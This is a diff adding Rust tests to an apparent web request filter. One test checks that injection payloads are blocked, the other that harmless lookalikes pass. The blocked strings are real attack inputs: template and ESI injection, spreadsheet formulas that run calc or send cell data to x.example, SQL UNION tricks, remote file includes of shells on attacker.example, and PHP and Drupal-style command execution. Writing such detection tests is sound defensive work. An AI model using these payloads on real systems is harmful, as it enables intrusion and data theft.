@@ -2878,3 +2878,85 @@ fn ordinary_traffic_of_other_kinds_passes() {
         assert!(!blocked(&request(path), ""), "{path}");
     }
 }
+
+#[test]
+fn narrower_injection_families_are_blocked() {
+    assert_all_blocked(
+        "narrow",
+        &[
+            "${applicationScope}",
+            "#{facesContext.externalContext}",
+            "{{config.items()}}",
+            "{{ self }}",
+            "{$smarty.version}",
+            "<esi:include src=\"http://x.example/\"/>",
+            "<!--esi <esi:assign name=\"a\" value=\"b\"/> -->",
+            "=cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://x.example/?d=\"&A1,\"click\")",
+            "1 && 1",
+            "1') || ('1",
+            "-1 UNION TABLE users",
+            "-1 UNION VALUES ROW(1,2)",
+            "jar:file:///tmp/x.zip!/x",
+            "/Index/\\think\\app/invokefunction",
+        ],
+    );
+    let paths = [
+        "/index.php?page=%5C%5Cattacker.example%5Cshare%5Cshell.php",
+        "/index.php?page=%5C%5Cattacker.example%40SSL%40443%5Cdav%5Cx.php",
+        "/index.php?page=%2F%2Fattacker.example%2Fshell.txt",
+        "/index.php?file=http:%5C%5Cattacker.example%5Cx.txt",
+        "/index.php?function=call_user_func_array&vars[0]=system&vars[1][]=id",
+        "/user/register?mail[%23post_render][]=exec&mail[%23markup]=id",
+        "/index.php?-s",
+        "/index.php?-d+allow_url_include%3d1",
+        "/WEB-INF/web.xml",
+        "/app?jservsession=fixedvalue123",
+        "/index.action?class[classLoader][resources][dirContext][docBase]=x",
+    ];
+    for path in paths {
+        assert!(blocked(&request(path), ""), "{path}");
+    }
+    let mut upgrade = request("/");
+    upgrade.push(("upgrade".to_string(), b"h2c".to_vec()));
+    upgrade.push((
+        "http2-settings".to_string(),
+        b"AAMAAABkAARAAAAAAAIAAAAA".to_vec(),
+    ));
+    assert!(blocked(&upgrade, ""));
+}
+
+#[test]
+fn narrower_injection_lookalikes_pass() {
+    assert_all_pass(
+        "narrow",
+        &[
+            "{{ user.name }}",
+            "${PWD}",
+            "= total",
+            "=SUM(A1:A3)",
+            "+1 555 0100",
+            "1 & 2",
+            "jar of jam",
+            "the union table tennis club",
+            "union values matter",
+            "esiason",
+        ],
+    );
+    let paths = [
+        "/index.php?page=2",
+        "/index.php?page=about%2Fteam",
+        "/api?callback=jQuery1124_1700000000",
+        "/search?function=search&q=system",
+        "/docs/web-info/overview",
+        "/app?session=dark",
+        "/list?sort=-s",
+    ];
+    for path in paths {
+        assert!(!blocked(&request(path), ""), "{path}");
+    }
+    let mut websocket = request("/chat");
+    websocket.push(("upgrade".to_string(), b"websocket".to_vec()));
+    assert!(!blocked(&websocket, ""));
+}
